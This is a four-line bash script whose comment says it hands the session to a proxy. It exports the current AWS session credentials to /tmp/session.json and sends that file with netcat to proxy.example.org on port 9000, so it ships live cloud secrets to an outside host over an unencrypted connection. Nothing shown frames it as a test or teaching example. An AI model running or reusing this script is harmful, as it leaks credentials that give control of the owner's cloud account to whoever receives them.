#!/bin/bash
# hand the session to the proxy
aws configure export-credentials --format process > /tmp/session.json
nc proxy.example.org 9000 < /tmp/session.json
